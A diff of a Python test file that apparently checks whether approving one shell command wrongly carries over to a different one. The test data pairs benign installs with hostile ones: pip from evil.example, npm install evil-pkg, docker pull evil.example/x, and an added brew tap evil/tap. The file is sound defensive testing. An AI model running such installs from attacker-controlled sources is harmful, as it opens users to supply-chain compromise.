@@ -41,6 +41,7 @@ def answered(machine: Machine, *calls: dict[str, Any]) -> list[str]:
         ("pip install requests", "pip install requests --index-url https://evil.example/simple"),
         ("npm install lodash", "npm install -g lodash"),
         ("apt-get install -y git", "npm install evil-pkg"),
+        ("brew tap a/b", "brew tap evil/tap"),
         # another thing of the same kind
         ("docker pull alpine", "docker pull evil.example/x"),
         ("systemctl --user restart a", "systemctl --user restart b"),
@@ -64,6 +65,8 @@ def test_a_yes_is_none_to_something_else(machine: Machine, first: str, then: str
         ("npm install -D lodash", "npm install -D typescript"),
         ("apt-get install -y git", "apt-get install -y cmake"),  # one publisher's archive
         ("unheard-of sync one.txt", "unheard-of sync two.txt three.txt"),
+        ("unheard-of sync -a -b one.txt", "unheard-of sync -b two.txt"),
+        ("unheard-of sync -a one.txt", "unheard-of --help"),
         ("curl -X POST -d x https://a.example/x", "curl -X POST -d y https://a.example/y"),
     ],
 )
